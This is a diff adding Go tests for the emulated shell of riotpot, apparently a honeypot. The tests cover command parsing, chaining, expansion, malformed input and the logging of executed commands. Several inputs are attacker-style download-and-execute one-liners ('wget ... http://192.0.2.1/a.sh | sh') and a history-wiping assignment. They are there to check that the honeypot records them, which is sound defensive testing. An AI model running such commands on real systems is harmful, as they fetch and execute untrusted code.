@@ -0,0 +1,163 @@
+package shell
+
+import (
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/riotpot/pkg/events"
+	"github.com/riotpot/pkg/shell"
+	"github.com/stretchr/testify/assert"
+)
+
+// Sink keeping the commands run in the shells of a test
+type execSink struct {
+	mu     sync.Mutex
+	source string
+	events []*events.Event
+}
+
+func (s *execSink) GetName() string {
+	return "exec_test"
+}
+
+func (s *execSink) Send(ev *events.Event) error {
+	if ev.Type == events.ExecEvent && ev.Source == s.source {
+		s.mu.Lock()
+		defer s.mu.Unlock()
+		s.events = append(s.events, ev)
+	}
+	return nil
+}
+
+func (s *execSink) get() []*events.Event {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	return append([]*events.Event{}, s.events...)
+}
+
+func TestParse(t *testing.T) {
+	list, err := shell.Parse(`cd /tmp && wget "http://192.0.2.1/a b" -O- | sh; X=1 ./a 2>/dev/null >> log || echo $(id -u)`)
+	assert.NoError(t, err)
+	assert.Len(t, list, 2)
+
+	assert.Equal(t, []string{"&&"}, list[0].Operators)
+	assert.Len(t, list[0].Pipelines[1], 2)
+	assert.Equal(t, []string{"wget", `"http://192.0.2.1/a b"`, "-O-"}, list[0].Pipelines[1][0].Words)
+
+	command := list[1].Pipelines[0][0]
+	assert.Equal(t, []string{"X=1"}, command.Assignments)
+	assert.Equal(t, []string{"./a"}, command.Words)
+	assert.Equal(t, []shell.Redirect{{Fd: 2, Op: ">", Target: "/dev/null"}, {Fd: 1, Op: ">>", Target: "log"}}, command.Redirects)
+	assert.Equal(t, []string{"echo", "$(id -u)"}, list[1].Pipelines[1][0].Words)
+
+	for line, msg := range map[string]string{
+		"echo 'a":        "unexpected EOF while looking for matching `''",
+		"echo $(id":      "unexpected EOF while looking for matching `)'",
+		"| sh":           "syntax error near unexpected token `|'",
+		"echo a >":       "syntax error near unexpected token `newline'",
+		"echo a && && b": "syntax error near unexpected token `&&'",
+		"echo a ;;":      "syntax error near unexpected token `;'",
+	} {
+		_, err := shell.Parse(line)
+		assert.EqualError(t, err, msg, line)
+	}
+}
+
+func TestChaining(t *testing.T) {
+	out, fs := interact(t, "root",
+		"cd /none && echo no || echo yes",
+		"false; echo $?",
+		"cd /tmp && echo foo > /tmp/a && cat < a",
+		"cat /tmp/a | cat | sh 2>/dev/null",
+		"rm /none 2>/dev/null; echo 'echo from script' > s.sh; cat s.sh | sh",
+		"echo a | bad",
+	)
+
+	assert.Contains(t, out, "bash: cd: /none: No such file or directory\nyes\n")
+	assert.NotContains(t, out, "no\n")
+	assert.Contains(t, out, "# 1\n")
+	assert.Contains(t, out, "# foo\n")
+	assert.Contains(t, out, "bash: foo: command not found\n")
+	assert.Contains(t, out, "from script\n")
+	assert.Contains(t, out, "bash: bad: command not found\n")
+
+	// The writes to /dev/null are discarded
+	_, err := fs.Stat("/dev/null")
+	assert.Error(t, err)
+}
+
+func TestExpansion(t *testing.T) {
+	out, _ := interact(t, "root",
+		`X="a  b"; echo $X "$X" '$X' \$X`,
+		"echo $(uname -s) `whoami` \"$(echo x y)\" $HOME ~ $NONE.",
+		"HISTFILE=/dev/null; export HISTFILE; unset X; echo [$X]",
+		"cd /etc; echo host*; echo /etc/os-*; echo none*",
+	)
+
+	assert.Contains(t, out, "a b a  b $X $X\n")
+	assert.Contains(t, out, "Linux root x y /root /root .\n")
+	assert.Contains(t, out, "[]\n")
+	assert.Contains(t, out, "hostname hosts\n")
+	assert.Contains(t, out, "/etc/os-release\n")
+	assert.Contains(t, out, "none*\n")
+}
+
+func TestExecEvents(t *testing.T) {
+	sink := &execSink{source: t.Name()}
+	events.Events.Register(sink)
+	defer events.Events.Unregister(sink.GetName())
+
+	interact(t, "root", "cd /tmp && wget -q http://192.0.2.1/a.sh -O /tmp/a.sh 2>/dev/null | sh")
+
+	assert.Eventually(t, func() bool {
+		return len(sink.get()) == 3
+	}, 5*time.Second, 10*time.Millisecond)
+
+	evs := sink.get()
+	assert.Equal(t, "cd", evs[0].GetString("name"))
+	assert.Equal(t, "wget", evs[1].GetString("name"))
+	assert.Equal(t, []string{"-q", "http://192.0.2.1/a.sh", "-O", "/tmp/a.sh"}, evs[1].Fields["args"])
+	assert.Equal(t, []string{"2>/dev/null"}, evs[1].Fields["redirects"])
+	assert.Equal(t, "/tmp", evs[1].GetString("cwd"))
+	assert.Equal(t, 4, evs[1].Fields["status"])
+	assert.Equal(t, "sh", evs[2].GetString("name"))
+}
+
+// Lines that are malformed, or scanned differently by a naive parser, must not crash the shell
+func TestMalformed(t *testing.T) {
+	lines := []string{
+		`echo $${"}`,
+		`echo $${'}`,
+		`echo "$$"'`,
+		`echo ${`,
+		`echo ${"}"}`,
+		`echo $(`,
+		"echo `",
+		"echo \"`\"",
+		`echo "$("`,
+		`echo '$(`,
+		`echo $(echo "a)`,
+		`echo $(((`,
+		`echo $?$$"$#"$`,
+		`echo \`,
+		`echo "\`,
+		`X=$'`,
+		`echo ~'`,
+		`echo a >`,
+		`cat < "`,
+		`$(echo $(echo $(echo $((1+`,
+		"\x00\xff$\"",
+	}
+
+	for _, line := range lines {
+		assert.NotPanics(t, func() { shell.Parse(line) }, line)
+	}
+
+	_, err := shell.Parse(`echo $${"}`)
+	assert.EqualError(t, err, "unexpected EOF while looking for matching `\"'")
+
+	// Every line is run by the shell, after the others
+	out, _ := interact(t, "root", append(lines, "echo done")...)
+	assert.Contains(t, out, "done\n")
+}